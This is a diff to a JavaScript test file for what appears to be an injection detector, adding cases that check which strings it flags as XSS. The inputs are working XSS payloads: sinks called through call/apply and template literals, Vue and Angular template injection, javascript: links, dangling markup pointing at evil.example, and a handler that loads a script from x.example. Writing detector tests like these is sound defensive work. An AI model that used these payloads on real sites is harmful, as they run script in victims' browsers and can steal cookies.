@@ -416,7 +416,9 @@ t.test('shell: batch IF and FOR, mail protocol commands after a line break, wrap
 
 t.test('XSS: sinks through call/apply or as callbacks, handlers as values, dangling markup, Markdown pages', async (t) => {
   for (const p of ['alert.call(null,1)', 'prompt.apply(null, [1])', 'alert?.(document?.cookie)', '[1].map(confirm)', '[1].find(alert)', 'Array.prototype.sort.call`${alert}1337`', "onload=function(){$.getScript('//x.example/2.js')}", 'onfocus=;write(cookie)', '<img src="//evil.example/?', '<link rel=icon href="//evil.example?', '‘-alert(1)-’', '"+onError=prompt(123)"+', 'javascript:\ufeffalert(1)', '<video onwebkitplaybacktargetavailabilitychanged=alert(1)>']) t.ok(q(p).includes('xss'), p)
-  for (const p of ['call me maybe', 'onload handlers run first', '<img src="/logo.png">', 'the map(fn) call']) t.same(q(p), [], p)
+  t.notOk(q("eval('1+1')").includes('xss'), 'code handed to eval without a sink is no script injection (it is rce)')
+  for (const p of ["eval('alert(1)');", 'setTimeout`alert\\x2823\\x29`', '(alert)()', '"*prompt(9)*"', '[xss link](<javascript:alert(1)>)', 'href=”javascript:alert(1)//”>Click</a>', '<x @click=$event.view.alert(1)>click</x>', "{{$new.constructor('alert(1)')()}}", '{{_Vue.h.constructor`alert(1)`()}}']) t.ok(q(p).includes('xss'), p)
+  for (const p of ['call me maybe', 'onload handlers run first', '<img src="/logo.png">', 'the map(fn) call', 'setTimeout(render, 10)', '<button @click="save">Save</button>', '{{ item.constructor.name }}']) t.same(q(p), [], p)
   // a documentation page's component scripts, escaped brackets and embeds
   t.same(multipart('readme', "---\npage: true\n---\n\n<script setup>\nimport TeamPage from './team/TeamPage.vue'\n</script>\n\n<TeamPage />"), [], 'Vue <script setup> importing a component')
   t.same(multipart('readme', "## Raw HTML\n\nText.\n\n<script setup>\n  const rawHtml = '<span style=\"color: red\">red</span>'\n</script>\n\n<div class=\"demo\">x</div>"), [], 'a component script declaring a string of markup')
